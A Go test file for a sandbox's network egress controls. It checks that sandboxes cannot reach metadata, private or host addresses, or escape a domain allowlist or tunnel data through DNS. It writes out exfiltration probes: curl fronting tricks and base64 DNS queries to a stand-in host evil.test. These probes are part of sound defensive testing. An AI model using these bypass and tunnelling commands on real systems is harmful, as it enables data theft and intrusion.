package security

import (
	"fmt"
	"net"
	"strings"
	"testing"

	"github.com/shellgate/shellgate/internal/tool"
	"github.com/shellgate/shellgate/sandbox"
	"github.com/shellgate/shellgate/sandbox/egress/egresstest"
	"github.com/shellgate/shellgate/sandbox/sandboxtest"
)

// TestNetworkCases are security cases 13–16: the network, with and without
// an allowlist, against a test-made internet (nothing else is addressed).
func TestNetworkCases(t *testing.T) {
	sandboxtest.EachRuntime(t, networkCases)
}

func networkCases(t *testing.T, rt string) {
	in := egresstest.New(t)
	m, e, set := sandboxtest.OpenNetwork(t, rt, in)
	run := func(box, cmd string) string {
		t.Helper()
		o := shell(t, m, box, tool.ShellArgs{Commands: []string{cmd}, TimeoutMs: i64(60000)})[0]
		return o.Stdout + o.Stderr
	}
	ip := func(name string) string { return in.Addr(name).String() }
	// probe prints one line per attempt: "<what> <result>"; every
	// attempt has its own short timeout, so a "timeout" line is a
	// failure of the case (refusals must be prompt) as much as "ok" is.
	probe := func(box string, attempts ...string) map[string]string {
		t.Helper()
		py := "python3 - <<'PY'\nimport socket, struct, subprocess\n" +
			"def tcp(h, p, fam=socket.AF_INET):\n  s = socket.socket(fam, socket.SOCK_STREAM); s.settimeout(5)\n  try:\n    s.connect((h, p)); s.send(b'GET / HTTP/1.1\\r\\nHost: x\\r\\n\\r\\n'); return 'ok' if s.recv(100) else 'closed'\n  except socket.timeout: return 'timeout'\n  except OSError as e: return type(e).__name__\n" +
			"def udp(h, p, fam=socket.AF_INET):\n  s = socket.socket(fam, socket.SOCK_DGRAM); s.settimeout(5)\n  try:\n    s.connect((h, p)); s.send(b'x'); s.recv(100); return 'ok'\n  except socket.timeout: return 'timeout'\n  except OSError as e: return type(e).__name__\n" +
			"def dns(server, name):\n  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(5)\n  qn = b''.join(bytes([len(l)]) + l.encode() for l in name.split('.')) + b'\\0'\n  try:\n    s.connect((server, 53)); s.send(struct.pack('>HHHHHH', 7, 0x0100, 1, 0, 0, 0) + qn + struct.pack('>HH', 1, 1)); r = s.recv(512)\n    return 'rcode%d-answers%d' % (r[3] & 0xf, struct.unpack('>H', r[6:8])[0])\n  except socket.timeout: return 'timeout'\n  except OSError as e: return type(e).__name__\n" +
			"def icmp(h):\n  try:\n    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM, socket.IPPROTO_ICMP); s.settimeout(5)\n    s.connect((h, 0)); s.send(struct.pack('>BBHHH', 8, 0, 0, 1, 1) + b'x'); s.recv(100); return 'ok'\n  except socket.timeout: return 'timeout'\n  except OSError as e: return type(e).__name__\n" +
			"def resolve(name):\n  try: socket.getaddrinfo(name, 80); return 'resolved'\n  except socket.gaierror as e: return 'gaierror'\n"
		for i, a := range attempts {
			py += fmt.Sprintf("print(%d, %s)\n", i, a)
		}
		py += "PY"
		out := run(box, py)
		res := map[string]string{}
		for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
			f := strings.Fields(l)
			if len(f) == 2 {
				var i int
				fmt.Sscan(f[0], &i)
				if i < len(attempts) {
					res[attempts[i]] = f[1]
				}
			}
		}
		t.Logf("%s: %v", box, res)
		if len(res) != len(attempts) {
			t.Fatalf("probe output: %q", out)
		}
		return res
	}
	expect := func(t *testing.T, res map[string]string, ok func(attempt, result string) bool) {
		t.Helper()
		for a, r := range res {
			if !ok(a, r) {
				t.Errorf("%s: %s", a, r)
			}
		}
	}
	refused := func(_, r string) bool {
		return r != "ok" && r != "timeout" && r != "resolved" && !strings.HasPrefix(r, "rcode0")
	}
	hostPort := func(t *testing.T) int {
		l, err := net.Listen("tcp", ":0")
		if err != nil {
			t.Fatal(err)
		}
		t.Cleanup(func() { l.Close() })
		return l.Addr().(*net.TCPAddr).Port
	}

	t.Run("13 no policy: TCP, UDP, ICMP, IPv6 and DNS all fail [exfiltration]", func(t *testing.T) {
		set("closed")
		res := probe("closed",
			fmt.Sprintf("tcp('%s', 80)", ip("allowed.test")),
			fmt.Sprintf("tcp('%s', 443)", ip("allowed.test")),
			fmt.Sprintf("udp('%s', 443)", ip("allowed.test")),
			fmt.Sprintf("icmp('%s')", ip("allowed.test")),
			"tcp('2001:db8::1', 80, socket.AF_INET6)",
			fmt.Sprintf("dns('%s', 'allowed.test')", in.DNS),
			"resolve('allowed.test')",
		)
		expect(t, res, refused)
		if in.TotalHits()+int(in.DNSQueries()+in.UDPPackets()) != 0 {
			t.Fatal("something reached the internet")
		}
	})
	t.Run("14 never reachable under any policy: metadata, private, host, API port, other sandboxes [lateral movement]", func(t *testing.T) {
		set("star", "*")
		set("peer", "allowed.test")
		run("peer", "true")
		api := hostPort(t)
		pool := e.Pool().Addr().As4()
		var attempts []string
		for _, a := range []string{"169.254.169.254", "10.0.0.1", "127.0.0.1"} {
			attempts = append(attempts, fmt.Sprintf("tcp('%s', 80)", a))
		}
		for n := 0; n < 4; n++ {
			for _, k := range []byte{1, 2} {
				a := net.IPv4(pool[0], pool[1], pool[2], pool[3]+byte(4*n)+k).String()
				attempts = append(attempts, fmt.Sprintf("tcp('%s', %d)", a, api), fmt.Sprintf("tcp('%s', 8000)", a))
			}
		}
		attempts = append(attempts, "tcp('fd00:ec2::254', 80, socket.AF_INET6)", fmt.Sprintf("tcp('%s', %d)", in.Prefix.Addr().Next(), api))
		res := probe("star", attempts...)
		expect(t, res, func(a, r string) bool {
			// Port 80 of a literal address is the proxy: it takes the
			// connection and resets it (no name), which reads as "closed"
			// or a ConnectionResetError.
			return refused(a, r) || strings.HasSuffix(a, ", 80)") && r == "closed"
		})
		// By name too: allowed names that resolve to refused addresses.
		out := run("star", "for h in meta.test meta6.test private.test self.test; do curl -s --max-time 10 -o /dev/null http://$h/; echo $h $?; done")
		// Normally the proxy takes the connection and resets it once it
		// sees the name's address is refused (56, 52); once in many full
		// runs a connection was refused before it (7, could not connect):
		// not reached either way.
		for _, l := range strings.Split(strings.TrimSpace(out), "\n") {
			if !strings.HasSuffix(l, " 56") && !strings.HasSuffix(l, " 52") && !strings.HasSuffix(l, " 7") {
				t.Errorf("%q: want a reset (56 or 52) or a refused connection (7)", l)
			}
		}
	})
	t.Run("15 allowlist bypasses: hosts file, IP without SNI, fronting, subdomains, case, IPv6, QUIC, other ports [exfiltration]", func(t *testing.T) {
		set("narrow", "allowed.test", "*.api.allowed.test")
		before := in.Hits("evil.test", 80) + in.Hits("evil.test", 443) + in.Hits("other.test", 443)
		out := run("narrow", strings.Join([]string{
			"c() { curl -s --max-time 10 -o /dev/null -k \"$@\"; echo $?; }",
			"c --resolve evil.test:443:" + ip("allowed.test") + " https://evil.test/",
			"c -H 'Host: evil.test' http://" + ip("evil.test") + "/",
			"c https://" + ip("allowed.test") + "/",
			"c --resolve other.test:443:" + ip("allowed.test") + " -H 'Host: allowed.test' https://other.test/",
			"c https://api.allowed.test/",
			"c https://xallowed.test/",
			"c http://allowed.test:8080/",
			"c -g 'http://[2001:db8::1]/'",
		}, "\n"))
		codes := strings.Fields(out)
		want := []string{"35|56", "52|56", "35|56", "35|56", "6", "6", "7", "7"}
		if len(codes) != len(want) {
			t.Fatalf("%q", out)
		}
		for i, c := range codes {
			if !strings.Contains("|"+want[i]+"|", "|"+c+"|") {
				t.Errorf("attempt %d: curl exit %s, want %s", i+1, c, want[i])
			}
		}
		res := probe("narrow", fmt.Sprintf("udp('%s', 443)", ip("allowed.test")))
		expect(t, res, refused)
		// Upper case and a trailing dot are the same name: allowed.
		if out := run("narrow", "curl -s --max-time 10 http://ALLOWED.Test./"); !strings.HasPrefix(out, "server=allowed.test") {
			t.Errorf("case and trailing dot: %q", out)
		}
		if after := in.Hits("evil.test", 80) + in.Hits("evil.test", 443) + in.Hits("other.test", 443); after != before || in.UDPPackets() != 0 {
			t.Fatalf("a bypass reached a denied host (%d requests, %d UDP packets)", after-before, in.UDPPackets())
		}
	})
	t.Run("16 DNS tunnelling: names outside the allowlist are NXDOMAIN and never forwarded [exfiltration]", func(t *testing.T) {
		set("tunnel", "allowed.test")
		res := probe("tunnel",
			fmt.Sprintf("dns('%s', 'c2VjcmV0IGRhdGE.evil.test')", in.DNS),
			"dns('8.8.8.8', 'c2VjcmV0IGRhdGE.evil.test')",
			"dns(open('/etc/resolv.conf').read().split()[1], 'c2VjcmV0IGRhdGE.evil.test')",
			"dns(open('/etc/resolv.conf').read().split()[1], 'allowed.test.evil.test')",
			"resolve('x.evil.test')",
		)
		expect(t, res, func(a, r string) bool { return r == "rcode3-answers0" || r == "gaierror" })
		if in.DNSQueries() != 0 {
			t.Fatalf("%d DNS packets reached the internet", in.DNSQueries())
		}
	})
	_ = sandbox.ErrNotFound
}
